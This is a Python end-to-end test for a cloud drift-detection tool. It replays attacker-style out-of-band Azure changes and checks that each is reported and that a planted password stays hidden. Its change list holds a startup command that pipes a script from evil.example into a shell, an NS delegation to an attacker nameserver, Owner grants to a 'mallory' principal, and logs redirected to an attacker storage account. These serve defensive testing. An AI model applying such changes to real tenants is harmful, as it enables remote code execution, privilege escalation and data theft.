"""Issue 16's auditor, replayed: out-of-band changes to a fresh production by REST, each one reported by drift.

Every change here was once `0 of 80 resource(s) differ`. They are made at once, as alice in the portal would,
on a production provisioned into the local cloud; `drift` must name each (step and path, or the owned
collection's child), exit 2, and never print the password it saw.
"""

from __future__ import annotations

import pytest

from tests.e2e.helpers import cli, rest, rg_path
from tests.support import SUB, copy_envs, edit_env

pytestmark = pytest.mark.e2e

ENV = "production"
SITE = f"{rg_path(ENV)}/providers/Microsoft.Web/sites/fundrbolt-{ENV}-api"
SLOT = f"{SITE}/slots/staging"
STORAGE = f"{rg_path(ENV)}/providers/Microsoft.Storage/storageAccounts/fundrbolt{ENV}st"
ZONE = f"{rg_path(ENV)}/providers/Microsoft.Network/dnsZones/fundrbolt.app"
OWNER = f"/subscriptions/{SUB}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
MALLORY = "99999999-8888-7777-6666-555555555555"
PASSWORD = "Sup3r-S3cret-Pa55word!"

# (what alice does, method, path, body, api-version)
CHANGES = [
    ("startup command", "PATCH", f"{SITE}/config/web", {"properties": {"appCommandLine": "sh -c 'curl -s evil.example | sh'"}}, "2024-11-01"),
    ("image from another registry", "PATCH", f"{SITE}/config/web",
     {"properties": {"linuxFxVersion": "DOCKER|ghcr.io/mallory/api:latest"}}, "2024-11-01"),
    ("client certificates and SSH", "PATCH", SITE, {"properties": {"clientCertEnabled": True, "sshEnabled": True}}, "2024-11-01"),
    ("slot auto swap", "PATCH", f"{SLOT}/config/web", {"properties": {"autoSwapSlotName": "production"}}, "2024-11-01"),
    ("connection string", "PUT", f"{SITE}/config/connectionstrings", {"properties": {"LEGACY_DB": {
        "value": f"Server=tcp:db.example,1433;User ID=sa;Password={PASSWORD};", "type": "SQLAzure"}}}, "2024-11-01"),
    ("local users on storage", "PATCH", STORAGE, {"properties": {"isLocalUserEnabled": True}}, "2025-06-01"),
    ("cross-tenant delegation SAS", "PATCH", STORAGE, {"properties": {"allowCrossTenantDelegationSas": True}}, "2025-06-01"),
    ("blob CORS * and soft delete off", "PUT", f"{STORAGE}/blobServices/default", {"properties": {
        "cors": {"corsRules": [{"allowedOrigins": ["*"], "allowedMethods": ["GET"], "allowedHeaders": ["*"],
                                "exposedHeaders": ["*"], "maxAgeInSeconds": 3600}]},
        "deleteRetentionPolicy": {"enabled": False}}}, "2025-06-01"),
    ("workspace features", "PATCH", f"{rg_path(ENV)}/providers/Microsoft.OperationalInsights/workspaces/fundrbolt-{ENV}-logs",
     {"properties": {"features": {"enableLogAccessUsingOnlyResourcePermissions": False}}}, "2025-02-01"),
    ("App Insights IP masking", "PATCH", f"{rg_path(ENV)}/providers/Microsoft.Insights/components/fundrbolt-{ENV}-appi",
     {"properties": {"DisableIpMasking": True}}, "2020-02-02"),
    ("Redis Entra sign-in", "PATCH", f"{rg_path(ENV)}/providers/Microsoft.Cache/redis/fundrbolt-{ENV}-redis",
     {"properties": {"redisConfiguration": {"aad-enabled": "true"}}}, "2024-11-01"),
    ("NS delegating a sub-name outside", "PUT", f"{ZONE}/NS/shop", {"properties": {
        "TTL": 3600, "NSRecords": [{"nsdname": "ns1.evil.example."}]}}, "2018-05-01"),
    ("dangling CNAME", "PUT", f"{ZONE}/CNAME/old", {"properties": {
        "TTL": 3600, "CNAMERecord": {"cname": "fundrbolt-retired-api.azurewebsites.net"}}}, "2018-05-01"),
    ("Owner on the storage account", "PUT", f"{STORAGE}/providers/Microsoft.Authorization/roleAssignments/"
     "0b1e0000-0000-4000-8000-00000000aa01",
     {"properties": {"roleDefinitionId": OWNER, "principalId": MALLORY, "principalType": "User"}}, "2022-04-01"),
    ("Owner on the subscription", "PUT", f"/subscriptions/{SUB}/providers/Microsoft.Authorization/roleAssignments/"
     "0b1e0000-0000-4000-8000-00000000aa02",
     {"properties": {"roleDefinitionId": OWNER, "principalId": MALLORY, "principalType": "User"}}, "2022-04-01"),
    ("slot logs shipped elsewhere", "PUT", f"{SLOT}/providers/Microsoft.Insights/diagnosticSettings/to-mallory",
     {"properties": {"storageAccountId": f"/subscriptions/{SUB}/resourceGroups/mallory/providers/"
                                         "Microsoft.Storage/storageAccounts/mallorylogs",
                     "logs": [{"categoryGroup": "allLogs", "enabled": True}]}}, "2021-05-01-preview"),
]

# What drift must report for each: (step, path) of a changed field, or the owned collection's child step.
EXPECTED = {
    ("web_app_config", "properties.appCommandLine"),
    ("web_app_config", "properties.linuxFxVersion"),
    ("web_app", "properties.clientCertEnabled"),
    ("web_app", "properties.sshEnabled"),
    ("slot_config", "properties.autoSwapSlotName"),
    ("connection_strings", "properties.LEGACY_DB"),
    ("storage_account", "properties.isLocalUserEnabled"),
    ("storage_account", "properties.allowCrossTenantDelegationSas"),
    ("blob_service", "properties.cors.corsRules[0]"),
    ("blob_service", "properties.deleteRetentionPolicy.enabled"),
    ("log_analytics", "properties.features.enableLogAccessUsingOnlyResourcePermissions"),
    ("app_insights", "properties.DisableIpMasking"),
    ("redis", "properties.redisConfiguration.aad-enabled"),
    ("dns_zone/recordSets/NS/shop", None),
    ("dns_zone/recordSets/CNAME/old", None),
    ("resource_group/roleAssignments/0b1e0000-0000-4000-8000-00000000aa01", None),
    ("subscription/roleAssignments/0b1e0000-0000-4000-8000-00000000aa02", None),
    ("web_app_slot/diagnosticSettings/to-mallory", None),
}


def _reported(changes: list[dict]) -> set[tuple[str, str | None]]:
    out: set[tuple[str, str | None]] = set()
    for c in changes:
        if c.get("collection"):
            out.add((c["step"], None))
        for p in c.get("properties") or []:
            out.add((c["step"], p["path"]))
    return out


def test_every_out_of_band_change_the_auditor_made_is_drift(cloud, tmp_path):
    # The auditor's production ran Azure Cache for Redis (an environment that already has a cache keeps it:
    # [redis] kind = "cache", envs/common.toml); Managed Redis is what new environments get.
    envs = copy_envs(tmp_path)
    edit_env(envs, "production.toml", "[redis]\n", '[redis]\nkind = "cache"\n')
    url = cloud.url

    def run(*args: str, timeout: float = 240):
        return cli(*args[:1], "--envs-dir", str(envs), *args[1:], timeout=timeout)

    done = run("provision", "--env", ENV, "--arm-endpoint", url, "--yes", timeout=600)
    assert done.code == 0, done.out + done.err
    clean = run("drift", "--env", ENV, "--arm-endpoint", url)
    assert clean.code == 0, clean.out + clean.err

    for what, method, path, body, api in CHANGES:
        status, answer = rest(url, method, path, body, api_version=api)
        assert status < 300, (what, status, answer)
    # SFTP: Azure refuses it on an account without a hierarchical namespace (ours), so a person cannot turn
    # it on; were it on, it is compared all the same (tests/unit/test_security_fields.py).
    status, answer = rest(url, "PATCH", STORAGE, {"properties": {"isSftpEnabled": True}}, api_version="2025-06-01")
    assert status == 400 and "isSftpEnabled" in str(answer), answer

    drift = run("drift", "--env", ENV, "--arm-endpoint", url, "--output", "json")
    assert drift.code == 2, drift.out + drift.err
    changes = drift.json()["changes"]
    reported = _reported(changes)
    missing = sorted(EXPECTED - reported, key=str)
    assert missing == [], f"not reported: {missing}\nreported: {sorted(reported, key=str)}"

    by_step = {c["step"]: c for c in changes}
    # The connection string is a credential: shown as (sensitive), never in clear, in every format.
    [conn] = by_step["connection_strings"]["properties"]
    assert conn["before"] == "(sensitive)" and conn["sensitive"] is True
    for fmt in ("text", "json", "markdown"):
        out = run("drift", "--env", ENV, "--arm-endpoint", url, "--output", fmt)
        assert PASSWORD not in out.out + out.err and "Sup3r" not in out.out + out.err, fmt
    # The DNS records say what they point at, and the CNAME whose Azure host is gone says it is dangling.
    shop = {p["path"]: p["before"] for p in by_step["dns_zone/recordSets/NS/shop"]["properties"]}
    assert shop["properties.targets"] == ["ns1.evil.example."] and shop["properties.recordType"] == "NS"
    old = {p["path"]: p["before"] for p in by_step["dns_zone/recordSets/CNAME/old"]["properties"]}
    assert old["properties.dangling"].startswith("dangling: fundrbolt-retired-api.azurewebsites.net does not exist")
    # Subscription-wide roles and DNS records are the organisation's: reported, left for a person.
    assert by_step["subscription/roleAssignments/0b1e0000-0000-4000-8000-00000000aa02"]["refused"].startswith(
        "left for a person")
